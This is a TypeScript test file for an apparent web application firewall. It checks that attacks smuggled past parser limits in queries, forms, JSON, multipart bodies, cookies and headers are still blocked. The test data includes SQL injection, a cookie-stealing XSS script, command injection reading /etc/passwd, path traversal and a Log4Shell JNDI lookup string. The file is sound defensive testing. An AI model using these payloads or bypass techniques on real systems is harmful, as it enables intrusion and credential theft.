import { describe, expect, test } from 'vitest';
import { defaultLimits, type InspectedRequest } from '../parse/index.ts';
import { choices, encodeLatin1, post, query, request } from '../testing/requests.ts';
import { compilePolicy, inspect } from './index.ts';

// size_limit is off, as a new site has it: what is beyond a bound must be found by those who look for attacks.
const { size_limit: _off, ...looking } = choices('medium');
const policy = compilePolicy({ securityLevel: 'medium', categories: looking });

const form = (body: string) => post('application/x-www-form-urlencoded', body);
const json = (value: unknown) => post('application/json', JSON.stringify(value));
const multipart = (body: string, type = 'multipart/form-data; boundary=b') => post(type, body);
const field = (name: string, content: string) =>
  `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${content}\r\n`;
const fields = (count: number) => Array.from({ length: count }, (_, i) => field(`f${i}`, '1')).join('');
const many = defaultLimits.maxArguments;
const flood = (pair: string, separator: string) => `${pair}${separator}`.repeat(many);

const places: [string, (payload: string) => InspectedRequest][] = [
  ['the query, after more arguments', (text) => query(`${flood('a', '&')}id=${encodeLatin1(text)}`)],
  ['a form, after more fields', (text) => form(`${flood('a=1', '&')}id=${encodeLatin1(text)}`)],
  ['JSON, after more strings', (text) => json([...Array.from({ length: many }, (_, i) => `v${i}`), text])],
  [
    'JSON, after more keys',
    (text) => json({ ...Object.fromEntries(Array.from({ length: many }, (_, i) => [`k${i}`, 1])), id: text }),
  ],
  [
    'JSON, deeper',
    (text) => post('application/json', `${'['.repeat(500)}${JSON.stringify(text)}${']'.repeat(500)}`),
  ],
  ['a multipart form, after more parts', (text) => multipart(`${fields(1100)}${field('id', text)}--b--\r\n`)],
  [
    'a multipart form whose boundary is named twice',
    (text) =>
      multipart(
        `--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--a--\r\n${field('id', text)}--b--\r\n`,
        'multipart/form-data; boundary=a; boundary=b',
      ),
  ],
  [
    'a multipart form without an end',
    (text) => multipart(`--b\r\nContent-Disposition: form-data; name="id"\r\n${text}\r\n`),
  ],
  [
    'a cookie, after more cookies',
    (text) => request({ headers: [['cookie', `${flood('a=1', ';')}id=${encodeLatin1(text)}`]] }),
  ],
  [
    'a header, after more arguments',
    (text) => ({ ...query(flood('a', '&')), headers: [['x-client', text]] }),
  ],
  [
    'the Referer, after more arguments',
    (text) => ({
      ...query(flood('a', '&')),
      headers: [['referer', `https://a.test/?q=${encodeLatin1(text)}`]],
    }),
  ],
];
const attacks = [
  `1' UNION SELECT password FROM users-- -`,
  `"><script>alert(document.cookie)</script>`,
  `;cat /etc/passwd`,
  '../../../../etc/passwd',
  '%{jndi:ldap://x.example/a}'.replace('%', '$'),
];

describe('a bound on what is taken apart hides nothing', () => {
  describe.each(places)('in %s', (_place, send) => {
    test.each(attacks)('blocks %s', (attack) => {
      expect(inspect(policy, send(attack)).decision).toBe('block');
    });
    test('passes what is none', () => {
      expect(inspect(policy, send('a good day in the union of the select few')).decision).toBe('pass');
    });
  });
});
